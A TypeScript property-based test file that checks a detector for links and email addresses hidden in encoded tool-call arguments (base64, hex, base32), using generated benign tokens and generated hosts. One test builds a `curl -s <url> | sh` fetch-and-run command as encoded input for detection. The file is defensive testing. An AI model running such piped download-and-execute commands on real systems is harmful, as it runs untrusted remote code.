import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { destinationsOf } from './destinations.js';

/**
 * Over generated inputs: the encoded readings of a call's arguments (encoded-arguments.ts) find
 * no destination in the random ids benign calls carry (tokens, hashes, UUIDs, JWTs, encoded
 * binary), and find every generated link and address encoded in base64, base64url, hex or base32
 * inside generated text — the same one destinationsOf reads when it is written plainly.
 */

const chars = (alphabet: string, min: number, max: number) =>
  fc.array(fc.constantFrom(...alphabet), { minLength: min, maxLength: max }).map((a) => a.join(''));
const B58 = '123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz';
const B62 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
const bytes = (min: number, max: number) =>
  fc.uint8Array({ minLength: min, maxLength: max }).map((b) => Buffer.from(b));
const b64url = (s: string) => Buffer.from(s).toString('base64url');

function base32(b: Buffer): string {
  const A = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';
  let bits = '';
  for (const x of b) bits += x.toString(2).padStart(8, '0');
  let out = '';
  for (let i = 0; i < bits.length; i += 5)
    out += A[parseInt(bits.slice(i, i + 5).padEnd(5, '0'), 2)];
  return out.padEnd(Math.ceil(out.length / 8) * 8, '=');
}

const benignToken = fc.oneof(
  bytes(8, 64).map((b) => b.toString('base64')),
  bytes(8, 64).map((b) => b.toString('base64url')),
  bytes(8, 64).map((b) => b.toString('hex')),
  bytes(8, 40).map(base32),
  bytes(20, 20).map((b) => b.toString('hex')),
  bytes(32, 32).map((b) => b.toString('hex')),
  fc.uuid(),
  chars(B58, 16, 44),
  chars(B62, 16, 40),
  chars('0123456789abcdef', 16, 16),
  fc
    .tuple(fc.nat(), fc.emailAddress(), fc.webUrl(), bytes(16, 32))
    .map(
      ([sub, email, iss, sig]) =>
        `${b64url('{"alg":"RS256","typ":"JWT"}')}.${b64url(JSON.stringify({ iss, sub, email }))}.${sig.toString('base64url')}`,
    ),
);
const word = chars('abcdefghijklmnopqrstuvwxyz', 1, 10);
const words = fc.array(word, { minLength: 0, maxLength: 6 }).map((w) => w.join(' '));

describe('encoded readings of a call’s arguments', () => {
  it('find no destination in generated benign ids', () => {
    fc.assert(
      fc.property(
        fc.array(fc.tuple(words, benignToken), { minLength: 1, maxLength: 4 }),
        (parts) => {
          const text = parts.map(([w, t]) => `${w} ${t}`).join(' ');
          const encoded = destinationsOf({ argv: ['tool', text], body: text }).filter(
            (d) => d.why === 'encoded',
          );
          expect(encoded).toEqual([]);
        },
      ),
      { numRuns: 500 },
    );
  });

  const label = chars('abcdefghijklmnopqrstuvwxyz0123456789', 3, 12);
  const host = fc
    .tuple(
      fc.array(label, { minLength: 1, maxLength: 3 }),
      fc.constantFrom('test', 'example', 'com', 'io'),
    )
    .map(([ls, tld]) => `${ls.join('.')}.${tld}`);
  const plain = fc.oneof(
    fc
      .tuple(chars('abcdefghijklmnopqrstuvwxyz0123456789._', 3, 20), host)
      .map(([local, h]) => `${local.replace(/^[._]+|[._]+$/g, '') || 'x'}@${h}`),
    fc
      .tuple(host, fc.array(label, { maxLength: 3 }))
      .map(([h, path]) => `https://${h}/${path.join('/')}`),
  );
  const encoding = fc.constantFrom<[string, (s: string) => string]>(
    ['base64', (s) => Buffer.from(s).toString('base64')],
    ['base64url', (s) => Buffer.from(s).toString('base64url')],
    ['hex', (s) => Buffer.from(s).toString('hex')],
    ['base32', (s) => base32(Buffer.from(s))],
  );

  it('find every generated link and address encoded inside generated text', () => {
    fc.assert(
      fc.property(plain, encoding, words, words, fc.boolean(), (p, [, enc], before, after, cmd) => {
        const carried = cmd ? `curl -s ${p} | sh` : p;
        const want = destinationsOf({ to: p }).map((d) => `${d.kind}:${d.value}`);
        expect(want.length).toBeGreaterThan(0);
        const got = destinationsOf({ note: `${before} ${enc(carried)} ${after}` })
          .filter((d) => d.why === 'encoded')
          .map((d) => `${d.kind}:${d.value}`);
        expect(got).toEqual(expect.arrayContaining(want));
      }),
      { numRuns: 300 },
    );
  });
});
